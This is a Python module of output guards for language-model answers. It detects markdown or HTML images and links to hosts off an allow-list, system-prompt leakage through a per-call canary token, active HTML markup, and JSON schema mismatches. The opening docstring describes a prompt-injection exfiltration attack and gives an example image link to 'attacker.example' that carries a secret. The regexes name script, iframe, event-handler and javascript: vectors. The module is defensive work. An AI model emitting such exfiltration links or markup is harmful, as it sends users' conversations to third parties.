"""Detectors of what a model's answer must not do: send data to someone else's server, or
repeat the system prompt.

Exfiltration: a model steered by injected text can be made to write a markdown image whose
URL carries the conversation (``![x](https://attacker.example/?q=SECRET)``); a client that
renders markdown fetches it with no click. Links do the same with one click. Images and links
to hosts outside the rule's allow-list are found with their spans, so they can be cut out
(also from a stream, by the look-ahead scanner), and relative links, fragments and ``data:``
images (no request leaves the client) pass.

Leakage: a canary token, fresh per call, is placed in the system prompt; an answer that
contains it is repeating the system prompt.
"""

from __future__ import annotations

import json
import re
import secrets
from typing import Any
from urllib.parse import urlsplit

from jsonschema import Draft202012Validator

from seamline.guards.findings import EXFILTRATION, LEAK, MARKUP, SCHEMA_MISMATCH, Finding

_URL = r"<?([^\s)>]{1,4096})>?(?:\s+(?:\"[^\"\n]{0,500}\"|'[^'\n]{0,500}'))?\s*"
_FENCE = re.compile(r"^```(?:json)?\s*|\s*```$")
_HTML_URL = r"\s*=\s*[\"']?([^\"'\s>]{1,4096})[^>]{0,2000}>?"
# (label, score, pattern whose group 1 is the URL). Bounded repetitions throughout: no
# pattern can backtrack more than linearly on hostile output.
_PATTERNS: tuple[tuple[str, float, re.Pattern[str]], ...] = (
    ("markdown_image", 1.0, re.compile(r"!\[[^\]\n]{0,1000}\]\(\s*" + _URL + r"\)")),
    ("markdown_link", 0.9, re.compile(r"(?<!!)\[[^\]\n]{0,1000}\]\(\s*" + _URL + r"\)")),
    (
        "link_definition",
        0.9,
        re.compile(r"(?m)^[ \t]{0,3}\[[^\]\n]{1,1000}\]:[ \t]*<?([^\s>]{1,4096})>?"),
    ),
    (
        "html_image",
        1.0,
        re.compile(r"(?i)<img\b[^>]{0,2000}?\bsrc\s*=\s*[\"']?([^\"'\s>]{1,4096})[^>]{0,2000}>?"),
    ),
    (
        "html_link",
        0.9,
        re.compile(r"(?i)<a\b[^>]{0,2000}?\bhref\s*=\s*[\"']?([^\"'\s>]{1,4096})[^>]{0,2000}>?"),
    ),
)


class ExfiltrationDetector:
    """Markdown and HTML images and links to hosts outside ``allowed_hosts`` (a host allows
    its subdomains)."""

    name = "exfiltration"
    finds_only_loud_text = True  # links start with "[", "!" or "<" (``stream_scan``)

    def __init__(self, allowed_hosts: list[str]) -> None:
        self.allowed_hosts = tuple(host.lower().strip(".") for host in allowed_hosts)

    def scan(self, text: str, *, untrusted: bool = False) -> list[Finding]:
        if "](" not in text and "]:" not in text and "<" not in text:
            return []  # the usual answer: nothing to parse
        findings: list[Finding] = []
        for label, score, pattern in _PATTERNS:
            for match in pattern.finditer(text):
                if not self._allowed(match.group(1)):
                    findings.append(
                        Finding(self.name, EXFILTRATION, label, score, match.start(), match.end())
                    )
        return findings

    def _allowed(self, url: str) -> bool:
        if url.startswith(("#", "/", "./", "../")) or url.lower().startswith("data:image/"):
            return True
        try:
            parts = urlsplit(url)
        except ValueError:
            return False
        host = (parts.hostname or "").lower()
        if not parts.scheme and not host:
            return True  # a relative path: the client's own site
        return any(host == h or host.endswith("." + h) for h in self.allowed_hosts)


def new_canary() -> str:
    return f"sl-canary-{secrets.token_hex(8)}"


def with_canary(messages: list[dict[str, object]], canary: str) -> list[dict[str, object]]:
    """``messages`` with the canary in the system prompt, as a comment that a model has no
    reason to repeat (a system message is added when the call has none)."""
    marker = f"<!-- {canary} -->"
    first = messages[0] if messages else None
    if first is not None and first.get("role") in ("system", "developer"):
        content = first.get("content")
        if isinstance(content, str):
            return [{**first, "content": f"{content}\n{marker}"}, *messages[1:]]
    return [{"role": "system", "content": marker}, *messages]


class CanaryLeak:
    """The call's canary in an answer: the system prompt is being repeated."""

    name = "leakage"
    finds_only_loud_text = True  # the canary is one 26-character word (``stream_scan``)

    def __init__(self, canary: str) -> None:
        # The random part alone: a model that repeats the token may drop the prefix.
        self._token = canary.removeprefix("sl-canary-")

    def scan(self, text: str, *, untrusted: bool = False) -> list[Finding]:
        at = text.find(self._token)
        if at < 0:
            return []
        return [Finding(self.name, LEAK, "system_prompt_leak", 1.0, at, at + len(self._token))]


# Markup that runs or loads something when an answer is rendered as HTML: a script, a style
# sheet, a frame, an embedded object, a form, an auto-refresh, an event handler, a
# javascript: URL. Each pattern is bounded; an element left open is cut to the end.
_ACTIVE_MARKUP: tuple[tuple[str, re.Pattern[str]], ...] = (
    (
        "script",
        re.compile(r"(?is)<\s*(script|style)\b[^>]{0,2000}>.{0,200000}?(?:<\s*/\s*\1\s*>|\Z)"),
    ),
    ("frame", re.compile(r"(?i)<\s*(?:iframe|frame|object|embed|form|base)\b[^>]{0,2000}>?")),
    ("refresh", re.compile(r"(?i)<\s*meta\b[^>]{0,2000}http-equiv[^>]{0,2000}>?")),
    ("event_handler", re.compile(r"(?i)<[a-z][^>]{0,2000}?\son[a-z]{2,30}\s*=[^>]{0,2000}>?")),
    ("javascript_url", re.compile(r"(?i)(?:java|vb)script\s*:[^\s\"'<>)]{0,2000}")),
)


class MarkupDetector:
    """Active markup in an answer, for routes whose clients render answers as HTML (a rule
    ``detector: markup`` with ``action: redact`` cuts it out)."""

    name = "markup"

    def scan(self, text: str, *, untrusted: bool = False) -> list[Finding]:
        if "<" not in text and "script" not in text.lower():
            return []
        return [
            Finding(self.name, MARKUP, label, 1.0, match.start(), match.end())
            for label, pattern in _ACTIVE_MARKUP
            for match in pattern.finditer(text)
        ]


class SchemaCheck:
    """An answer against the JSON Schema the call expects (its prompt's ``output_schema``, or
    its ``response_format``): not JSON, or JSON that does not match, is a finding whose
    label says which, with the first validation error kept for a re-ask."""

    name = "schema"

    def __init__(self, schema: dict[str, Any]) -> None:
        self._validator = Draft202012Validator(schema)
        self.error: str | None = None

    def scan(self, text: str, *, untrusted: bool = False) -> list[Finding]:
        body = _FENCE.sub("", text.strip())  # a model may wrap JSON in a markdown fence
        try:
            value = json.loads(body)
        except json.JSONDecodeError as exc:
            self.error = f"the answer is not JSON ({exc.msg} at character {exc.pos})"
            return [Finding(self.name, SCHEMA_MISMATCH, "invalid_json", 1.0)]
        error = next(iter(self._validator.iter_errors(value)), None)
        if error is None:
            return []
        where = "/".join(str(part) for part in error.absolute_path) or "the top level"
        self.error = f"the answer does not match the JSON Schema at {where}: {error.message}"
        return [Finding(self.name, SCHEMA_MISMATCH, "schema_mismatch", 1.0)]
